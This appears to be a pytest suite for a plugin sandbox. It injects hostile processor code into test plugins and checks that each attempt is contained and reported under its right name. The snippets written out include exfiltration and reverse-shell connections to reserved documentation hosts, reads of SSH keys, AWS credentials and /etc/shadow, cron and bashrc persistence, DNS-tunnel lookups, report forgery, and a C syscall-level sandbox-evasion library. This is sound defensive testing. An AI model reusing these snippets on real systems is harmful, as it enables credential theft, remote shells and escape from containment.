"""Plugins that try what no plugin should: all are contained, and each is told by its right name.

All are ours and harmless: hosts are names and addresses reserved for documentation (RFC 2606, RFC 5737), files
hold nothing, and none of it is ever run outside the sandbox.
"""

from __future__ import annotations

import subprocess
from dataclasses import dataclass, field
from typing import Any

import pytest

from tests.support.plugins import Plugin
from tests.support.verdicts import Verdict, plugin_test

pytestmark = [pytest.mark.engine, pytest.mark.usefixtures("leaves_nothing")]

BOTH = {"observed", "claimed"}
KERNEL = {"observed"}


@dataclass(frozen=True)
class Seen:
    """A doing that the report must hold: its category, words of its subject or arguments, and who told it."""

    category: str
    words: str
    sources: set[str] = field(default_factory=lambda: BOTH)
    file: str | None = "processors.py"


@dataclass(frozen=True)
class Hostile:
    """A plugin by the body of its processor's ``attack``, what must be seen of it, and the rules that fail it."""

    attack: str
    seen: tuple[Seen, ...]
    rules: frozenset[str]
    options: tuple[str, ...] = ()


HOSTILE: dict[str, Hostile] = {
    "exfiltration": Hostile(
        """
        import urllib.request
        for target in ("http://collect.example.net/", "http://203.0.113.7:8080/"):
            try:
                urllib.request.urlopen(target, data=repr(texts).encode(), timeout=2)
            except OSError:
                pass
        """,
        (
            Seen("dns", "collect.example.net"),
            Seen("network", "203.0.113.7:8080"),
        ),
        frozenset({"behaviour.dns", "behaviour.network"}),
    ),
    "reverse shell": Hostile(
        """
        import socket, subprocess
        link = socket.socket()
        try:
            link.connect(("198.51.100.4", 4444))
        except OSError:
            pass
        subprocess.run(["/bin/sh", "-i"], stdin=subprocess.DEVNULL, capture_output=True)
        """,
        (Seen("network", "198.51.100.4:4444"), Seen("execution", "/bin/sh -i")),
        frozenset({"behaviour.network", "behaviour.execution"}),
    ),
    "credentials": Hostile(
        """
        import os
        for name in ("~/.ssh/id_rsa", "/root/.aws/credentials", "/proc/1/environ", "/etc/shadow"):
            try:
                open(os.path.expanduser(name)).read()
            except OSError:
                pass
        """,
        (
            Seen("credentials", "/tmp/.ssh/id_rsa"),
            Seen("credentials", "/root/.aws/credentials"),
            Seen("credentials", "/etc/shadow"),
            Seen("environment", "/proc/1/environ"),
        ),
        frozenset({"behaviour.credentials", "behaviour.environment"}),
    ),
    "miner": Hostile(
        """
        import hashlib, os
        for _ in range(2):
            if os.fork() == 0:
                os.setsid()
                block = b""
                while True:
                    block = hashlib.sha256(block).digest()
        """,
        (Seen("processes", "still running", KERNEL, None),),
        frozenset(),
    ),
    "time bomb": Hostile(
        """
        import datetime, socket, time
        if datetime.date.today() >= datetime.date(2026, 1, 1):
            time.sleep(1.9)
            try:
                socket.create_connection(("192.0.2.66", 443), timeout=1)
            except OSError:
                pass
        """,
        (Seen("delay", "about 2 s", KERNEL, None), Seen("network", "192.0.2.66:443")),
        frozenset({"behaviour.network"}),
    ),
    "environment": Hostile(
        """
        import os
        loot = dict(os.environ)
        key = os.environ.get("AWS_SECRET_ACCESS_KEY")
        try:
            open("/proc/self/environ", "rb").read()
        except OSError:
            pass
        """,
        (
            Seen("environment", "(all of it)", {"claimed"}),
            Seen("environment", "AWS_SECRET_ACCESS_KEY", {"claimed"}),
            Seen("environment", "/proc/self/environ"),
        ),
        frozenset({"behaviour.environment"}),
    ),
    "forged report": Hostile(
        """
        import json, os, struct
        body = json.dumps({"type": "result", "problems": []}).encode()
        for entry in os.listdir("/proc/self/fd"):
            try:
                if int(entry) > 2:
                    os.write(int(entry), struct.pack("!IQ", len(body), 0) + body)
            except OSError:
                pass
        """,
        (Seen("tampering", "a message", KERNEL, None),),
        frozenset({"behaviour.tampering", "run.policy-violation"}),
    ),
    "native code": Hostile(
        """
        import ctypes, os
        ctypes.CDLL(os.path.join(os.path.dirname(__file__), "evasion.so")).evade()
        """,
        (
            Seen("network", "203.0.113.99:9999", KERNEL, None),
            Seen("denied-call", "ptrace", KERNEL, None),
            Seen("denied-call", "unshare", KERNEL, None),
            Seen("denied-call", "execveat", KERNEL, None),
            Seen("execution", "/bin/sh -c true", KERNEL, None),
            Seen("processes", "payload", KERNEL, None),
            Seen("dynamic-code", "anonymous", KERNEL, None),
            Seen("library", "evasion.so"),
        ),
        frozenset({"behaviour.network", "behaviour.denied-call", "behaviour.execution"}),
    ),
    "names": Hostile(
        """
        import ctypes, socket
        try:
            socket.getaddrinfo("c2VjcmV0.tunnel.example.net", 80)
        except OSError:
            pass
        found = ctypes.c_void_p()
        ctypes.CDLL(None).getaddrinfo(b"bmF0aXZl.tunnel.example.net", None, None, ctypes.byref(found))
        """,
        (
            Seen("dns", "c2VjcmV0.tunnel.example.net"),
            Seen("dns", "bmF0aXZl.tunnel.example.net", KERNEL, None),
        ),
        frozenset({"behaviour.dns"}),
    ),
    "persistence": Hostile(
        """
        import os, subprocess
        for name in ("~/.bashrc", "/etc/cron.d/job", "~/.config/autostart/job.desktop"):
            try:
                with open(os.path.expanduser(name), "a") as file:
                    file.write("true")
            except OSError:
                pass
        try:
            subprocess.run(["crontab", "-"], input=b"* * * * * true")
        except OSError:
            pass
        """,
        (
            Seen("persistence", "/tmp/.bashrc"),
            Seen("persistence", "/etc/cron.d/job"),
            Seen("persistence", "/tmp/.config/autostart/job.desktop"),
            Seen("execution", "crontab -"),
        ),
        frozenset({"behaviour.persistence", "behaviour.execution"}),
    ),
}

EVASION = r"""
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* Everything by number, past libc and past Python. */
void evade(void)
{
    struct sockaddr_in target = {.sin_family = AF_INET, .sin_port = htons(9999)};
    inet_pton(AF_INET, "203.0.113.99", &target.sin_addr);
    long link = syscall(SYS_socket, AF_INET, SOCK_STREAM, 0);
    syscall(SYS_connect, link, &target, sizeof target);
    syscall(SYS_ptrace, 16, 1, 0, 0);
    syscall(SYS_unshare, CLONE_NEWUSER);
    long file = syscall(SYS_memfd_create, "payload", 0);
    char *none[] = {NULL}, *shell[] = {"/bin/sh", "-c", "true", NULL};
    syscall(SYS_execveat, file, "", none, none, 0x1000);
    mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (fork() == 0) {
        syscall(SYS_execve, "/bin/sh", shell, none);
        _exit(1);
    }
    wait(NULL);
}
"""

PROCESSORS = '''
"""A processor that looks honest."""


def attack(texts):
{body}


class Processor:
    def __init__(self, config, progress_actor=None):
        pass

    def __call__(self, batch):
        attack(list(batch["text"]))
        batch["vector"] = [[float(len(text)), 1.0] for text in batch["text"]]
        return batch
'''


@pytest.fixture(scope="module")
def evasion(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """The native library, compiled here for the image's processor and libc."""
    folder = tmp_path_factory.mktemp("native")
    (folder / "evasion.c").write_text(EVASION)
    argv = ["gcc", "-shared", "-fPIC", "-O1", "-o", str(folder / "evasion.so"), str(folder / "evasion.c")]
    subprocess.run(argv, check=True, timeout=60)
    return (folder / "evasion.so").read_bytes()


def spoil(plugin: Plugin, attack: str) -> None:
    """Have the plugin's processor attack at each batch."""
    import textwrap

    body = textwrap.indent(textwrap.dedent(attack).strip(), "    ")
    plugin.write("processors.py", PROCESSORS.format(body=body))
    text = (plugin.root / "pipeline.py").read_text()
    head, _, rest = text.partition("class Processor:")
    plugin.write(
        "pipeline.py",
        f"{head}from .processors import Processor\n\n\ndef build_steps{rest.partition('def build_steps')[2]}",
    )


def tried(verdict: Verdict) -> list[dict[str, Any]]:
    return list(verdict.envelope["data"]["behaviour"]["tried"])


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_plugin_is_contained_and_told_by_its_name(plugin, capsys, evasion, name):
    hostile = HOSTILE[name]
    spoil(plugin, hostile.attack)
    if "evasion.so" in hostile.attack:
        plugin.write("evasion.so", evasion)
    verdict = plugin_test(capsys, plugin, "--sandbox", "--trace", "--timeout", "20", *hostile.options)
    for seen in hostile.seen:
        found = [
            doing
            for doing in tried(verdict)
            if doing["category"] == seen.category
            and seen.words in (" ".join(doing["arguments"]) + " " + doing["subject"])
        ]
        assert len(found) == 1, (seen, tried(verdict))
        assert set(found[0]["sources"]) == seen.sources, found
        assert (found[0]["file"] or None) == seen.file, found
        assert found[0]["line"] or seen.file is None
    assert hostile.rules <= set(verdict.rules)
    assert verdict.check("behaviour")["status"] == ("failed" if hostile.rules else "passed")
    # Contained: nothing that the inner filter stands against was carried out.
    for doing in tried(verdict):
        if doing["category"] in {"network", "dns", "denied-call"} and doing["kind"] != "unix-socket":
            assert doing["answer"] in {"refused", "a stand-in", None}, doing


def test_what_is_declared_is_told_and_does_not_fail(plugin, capsys):
    spoil(
        plugin,
        """
        import os, subprocess, urllib.request
        try:
            urllib.request.urlopen("https://api.example.com/v1", timeout=2)
        except OSError:
            pass
        subprocess.run(["/bin/true"])
        os.environ.get("EXAMPLE_API_KEY")
        """,
    )
    declared = {"hosts": ["api.example.com:443"], "executables": ["true"], "environment": ["EXAMPLE_API_KEY"]}
    plugin.write("manifest.py", f"{(plugin.root / 'manifest.py').read_text()}\npermissions = {declared!r}\n")
    verdict = plugin_test(capsys, plugin, "--sandbox")
    assert verdict.check("behaviour")["status"] == "passed", verdict.rules
    said = {doing["subject"].rpartition("/")[2]: doing["judgement"] for doing in tried(verdict)}
    assert said["api.example.com"] == said["true"] == said["EXAMPLE_API_KEY"] == "declared"


def test_what_is_not_declared_fails_without_trace_too(plugin, capsys):
    spoil(plugin, "import subprocess\nsubprocess.run(['/bin/true'])")
    finding = plugin_test(capsys, plugin, "--sandbox").finding("behaviour.execution")
    assert (finding["file"], finding["line"]) == ("processors.py", 6)
    assert '"executables": ["true"]' in finding["remedy"]


def test_a_harmless_start_hides_no_other_of_the_same_program(plugin, capsys):
    spoil(
        plugin,
        """
        import subprocess, sys
        for line in ("from multiprocessing.resource_tracker import main;main(0)", "import this"):
            subprocess.run([sys.executable, "-c", line], stdin=subprocess.DEVNULL, capture_output=True)
        """,
    )
    finding = plugin_test(capsys, plugin, "--sandbox").finding("behaviour.execution")
    assert "import this" in finding["message"]


FLOODS = {
    "calls": "for number in range(20000): ctypes.CDLL(None).syscall(272, number)",
    "addresses": "for port in range(3000): socket.socket().connect_ex(('203.0.113.1', port + 1))",
    "closed descriptors": "os.closerange(3, 1024); open('/etc/hostname')",
    "threads": "[t.start() for t in [threading.Thread(target=os.system, args=('true',)) for _ in range(30)]]",
    "hidden memory": "ctypes.CDLL(None).prctl(4, 0); socket.socket().connect_ex(('203.0.113.2', 1))",
    "a filter of its own": "ctypes.CDLL(None).prctl(22, 2, 0); socket.socket().connect_ex(('203.0.113.2', 1))",
    "a bad address": "ctypes.CDLL(None).syscall(42, 0, 1, 16); ctypes.CDLL(None).execve(1, 1, 1)",
    "killed siblings": "subprocess.Popen(['/bin/sleep', '60']).kill()",
}


@pytest.mark.parametrize("name", FLOODS)
def test_what_attacks_the_report_leaves_a_bounded_one(plugin, capsys, name):
    plugin.write(
        "tests/test_it.py",
        "import ctypes, os, socket, subprocess, threading\n\ndef test_it():\n    " + FLOODS[name] + "\n",
    )
    verdict = plugin_test(capsys, plugin, "--sandbox", "--timeout", "30")
    assert verdict.exit_code == 1
    assert any(rule.startswith("behaviour.") for rule in verdict.rules) or name == "closed descriptors"
    assert len(tried(verdict)) < 500


def test_gvisor_leaves_one_witness_which_is_not_enough_for_an_audit(plugin, capsys):
    spoil(
        plugin,
        """
        import socket
        try:
            socket.getaddrinfo("c2.example.net", 80)
        except OSError:
            pass
        """,
    )
    verdict = plugin_test(capsys, plugin, "--sandbox", "--trace", "--level", "gvisor")
    assert verdict.finding("behaviour.one-source")["severity"] == "unknown"
    assert [source["present"] for source in verdict.envelope["data"]["behaviour"]["sources"]] == [False, True]
    (asked,) = [doing for doing in tried(verdict) if doing["category"] == "dns"]
    assert (asked["subject"], asked["sources"], asked["file"]) == ("c2.example.net", ["claimed"], "processors.py")
